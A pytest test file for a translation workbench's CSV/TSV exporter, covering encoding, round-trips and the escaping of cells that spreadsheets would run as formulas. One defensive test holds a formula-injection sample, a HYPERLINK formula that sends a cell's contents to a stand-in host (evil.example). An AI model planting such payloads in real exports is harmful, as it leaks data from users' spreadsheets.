"""CSV/TSV: the one table writer, its reader, and cells spreadsheets would run as formulas."""

from __future__ import annotations

import csv
import io
import subprocess
import sys
from datetime import UTC, datetime

import pytest

from workbench.errors import InputError
from workbench.exchange.table import (
    COLUMNS,
    neutralise_cell,
    read_table,
    restore_cell,
    write_rows,
    write_table,
)
from workbench.exchange.units import TranslationUnit

UNITS = [
    TranslationUnit(
        "en",
        'He said "no", twice.',
        {"ur": "اس نے\tدو بار\n«نہیں» کہا۔"},
        changed=datetime(2025, 3, 2, 14, 5, 7, tzinfo=UTC),
        author="amna",
        props=(
            ("x-document", "doc.txt"),
            ("x-paragraph", "2"),
            ("x-segment", "5"),
            ("x-status", "confirmed"),
            ("x-origin", "human"),
        ),
    ),
    TranslationUnit("en", "No target yet.", {}),
]


def test_tsv_rows_read_back_with_the_csv_module():
    out = io.StringIO()
    assert write_table(UNITS, out, target_lang="ur") == 2
    rows = list(csv.reader(io.StringIO(out.getvalue()), delimiter="\t"))
    assert rows[0] == list(COLUMNS)
    assert rows[1] == [
        "doc.txt",
        "2",
        "5",
        'He said "no", twice.',
        "اس نے\tدو بار\n«نہیں» کہا۔",
        "confirmed",
        "human",
        "amna",
        "2025-03-02T14:05:07+00:00",
    ]
    assert rows[2][3:5] == ["No target yet.", ""]


def test_csv_files_start_with_a_bom_so_excel_reads_utf8(tmp_path):
    path = tmp_path / "doc.csv"
    write_table(UNITS, path, target_lang="ur", delimiter=",")
    data = path.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows[1][4] == "اس نے\tدو بار\n«نہیں» کہا۔"


def test_tsv_files_have_no_bom(tmp_path):
    path = tmp_path / "doc.tsv"
    write_table(UNITS, path, target_lang="ur")
    assert path.read_bytes().startswith(b"document\t")


FORMULAS = ["=1+1", "+92 300", "-5", "@SUM(A1)", "\tindented", "\rreturn"]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_cell_a_spreadsheet_would_run_as_a_formula_gets_a_leading_quote(text):
    assert neutralise_cell(text) == "'" + text


@pytest.mark.parametrize("text", ["plain", "", "'s-Hertogenbosch", "'", "a=b", "۔=۔", "5-3"])
def test_other_cells_are_written_as_they_are(text):
    assert neutralise_cell(text) == text


@pytest.mark.parametrize("text", [*FORMULAS, "'=guarded by hand", "''", "''x", "'s", "'", "x"])
def test_reading_back_removes_exactly_the_quote_the_writer_added(text):
    assert restore_cell(neutralise_cell(text)) == text


@pytest.mark.parametrize("delimiter", [",", "\t"])
def test_document_exports_neutralise_formulas_in_every_text_column(delimiter):
    hostile = TranslationUnit(
        "en",
        '=HYPERLINK("http://evil.example/?"&A1,"click")',
        {"ur": "-2+3"},
        changed_by="@admin",
        props=(("x-document", "+doc.txt"),),
    )
    out = io.StringIO()
    write_table([hostile], out, target_lang="ur", delimiter=delimiter)
    row = next(
        r
        for r in csv.reader(io.StringIO(out.getvalue()), delimiter=delimiter)
        if r[0] != "document"
    )
    assert row[0] == "'+doc.txt"
    assert row[3] == "'" + hostile.source
    assert row[4] == "'-2+3"
    assert row[7] == "'@admin"
    assert [
        u.source
        for u in read_table(
            io.BytesIO(out.getvalue().encode()),
            source_lang="en",
            target_lang="ur",
            delimiter=delimiter,
        )
    ] == [hostile.source]


def test_rows_for_scripts_are_written_verbatim_unless_asked():
    out = io.StringIO()
    write_rows([["=1+1", 3]], out, header=("formula", "n"))
    assert out.getvalue() == "formula\tn\n=1+1\t3\n"


def test_a_carriage_return_inside_a_cell_does_not_split_the_row():
    out = io.StringIO()
    write_rows([["a\rb", "c"]], out, header=("x", "y"))
    assert list(csv.reader(io.StringIO(out.getvalue(), newline=""), delimiter="\t")) == [
        ["x", "y"],
        ["a\rb", "c"],
    ]


def test_a_table_with_another_header_is_refused_on_line_1():
    data = b"source\ttarget\nHello\tSalam\n"
    with pytest.raises(InputError, match=r"^other\.tsv:1: not a workbench table"):
        list(read_table(io.BytesIO(data), source_lang="en", target_lang="ur", name="other.tsv"))


def test_writing_a_table_loads_neither_the_store_nor_sqlalchemy(tmp_path):
    """An alignment TSV (the CLI's `align --out x.tsv`) needs no database library."""
    script = (
        "import sys\n"
        "from workbench.align.export import write_tsv\n"
        "from workbench.align.model import Alignment\n"
        "from workbench.exchange.table import write_rows\n"
        f"write_rows([['a', 'b']], {str(tmp_path / 'x.tsv')!r}, header=('s', 't'))\n"
        "loaded = [m for m in sys.modules\n"
        "          if m == 'sqlalchemy' or m.startswith('workbench.store')]\n"
        "print(loaded)\n"
    )
    result = subprocess.run(
        [sys.executable, "-c", script], capture_output=True, text=True, check=True
    )
    assert result.stdout.strip() == "[]"
    assert (tmp_path / "x.tsv").read_text(encoding="utf-8") == "s\tt\na\tb\n"
